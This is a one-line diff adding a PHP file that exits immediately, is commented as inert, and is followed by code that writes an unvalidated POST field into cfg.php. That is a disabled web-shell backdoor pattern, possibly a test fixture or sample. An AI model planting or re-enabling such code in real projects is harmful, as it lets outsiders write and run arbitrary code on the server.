@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $o=fopen("cfg.php","w"); fwrite($o,$_POST["body"]); fclose($o);
